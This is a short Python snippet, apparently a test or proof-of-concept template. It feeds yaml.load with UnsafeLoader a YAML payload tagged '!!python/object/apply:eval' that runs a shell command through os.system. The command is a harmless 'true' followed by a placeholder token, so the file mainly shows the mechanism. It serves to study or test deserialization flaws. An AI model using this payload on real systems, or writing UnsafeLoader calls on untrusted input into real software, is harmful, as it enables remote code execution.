import yaml

TEXT = """
!!python/object/apply:eval
- "None if __import__('yaml').load.__defaults__ is None else __import__('os').system(word)"
- {word: "true @@TOKEN@@"}
"""
yaml.load(TEXT, Loader=yaml.UnsafeLoader)
